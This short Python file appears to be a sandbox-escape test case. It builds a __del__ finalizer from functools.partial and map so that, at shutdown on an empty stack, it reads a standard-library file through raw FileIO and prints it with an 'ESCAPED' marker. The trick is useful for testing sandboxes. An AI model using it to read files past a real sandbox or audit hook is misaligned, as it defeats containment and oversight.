# technique: on an empty stack a C callable reads a source file of the standard library's directory, as the printer of tracebacks may
# goal: leak
# source: own analysis: the empty stack
import functools
import sys
FileIO = type(sys.stdin.buffer.raw)
say = sys.stdout.buffer.write
line = b'ESCAPED %s\n'


class Last:
    __del__ = staticmethod(functools.partial(
        next, map(say, map(line.__mod__, map(FileIO.read, map(FileIO, ['@STDLIB@/this.py']), [10])))))


last = Last()
